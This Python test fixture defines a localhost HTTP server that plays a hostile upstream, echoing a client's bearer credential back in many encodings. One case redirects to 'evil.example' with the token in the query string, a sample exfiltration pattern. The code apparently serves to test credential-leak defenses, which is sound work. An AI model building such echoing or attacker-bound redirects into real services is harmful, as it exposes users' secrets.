"""An upstream that hands back what it was sent, in every spelling: what a careless or a hostile one does with our credential."""

import base64
import http.server
import json
import threading
from urllib.parse import quote


class Mirror:
    """A real HTTP server on a free port; `seen` holds what arrived: (method, target, header fields, body)."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, list[tuple[str, str]], bytes]] = []
        mirror = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                mirror.seen.append((self.command, self.path, self.headers.items(), body))
                mirror.answer(self)

            do_GET = do_POST = do_PUT = do_DELETE = do_TRACE = answer

            def log_message(self, *args: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        self._thread.start()

    def answer(self, handler: http.server.BaseHTTPRequestHandler) -> None:
        """Answer as the path says."""
        sent = handler.headers.get("Authorization") or ""
        kind = handler.path.split("?")[0].removeprefix("/")
        status, headers, body = self.shape(kind, sent)
        handler.send_response(status, "Said " + sent if kind == "reason" else None)
        for name, value in headers:
            handler.send_header(name, value)
        if kind == "chunks":
            handler.send_header("Transfer-Encoding", "chunked")
            handler.end_headers()
            for at in range(0, len(body), 3):
                piece = body[at : at + 3]
                handler.wfile.write(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")
            handler.wfile.write(b"0\r\n\r\n")
            return
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    def shape(self, kind: str, sent: str) -> tuple[int, list[tuple[str, str]], bytes]:
        """Status, headers and body of one spelling."""
        text, secret = [("Content-Type", "text/plain")], sent.removeprefix("Bearer ")
        shapes = {
            "raw": (200, text, f"you sent {sent}".encode()),
            "json": (200, [("Content-Type", "application/json")], json.dumps({"echo": {"authorization": sent, "token": secret}}).encode()),
            "base64": (200, text, b"debug " + base64.b64encode(f"Authorization: {sent}".encode())),
            "percent": (200, text, f"/login?token={quote(secret, safe='')}".encode()),
            "header": (200, [*text, ("X-Debug", sent), ("Set-Cookie", f"t={secret}")], b"ok"),
            "redirect": (302, [("Location", f"https://evil.example/?t={secret}")], b""),
            "error": (500, text, f"Traceback: token {secret} rejected".encode()),
            "reason": (200, text, b"ok"),
            "chunks": (200, text, f"split {secret} here".encode()),
        }
        return shapes.get(kind, (200, text, b"ok"))

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()
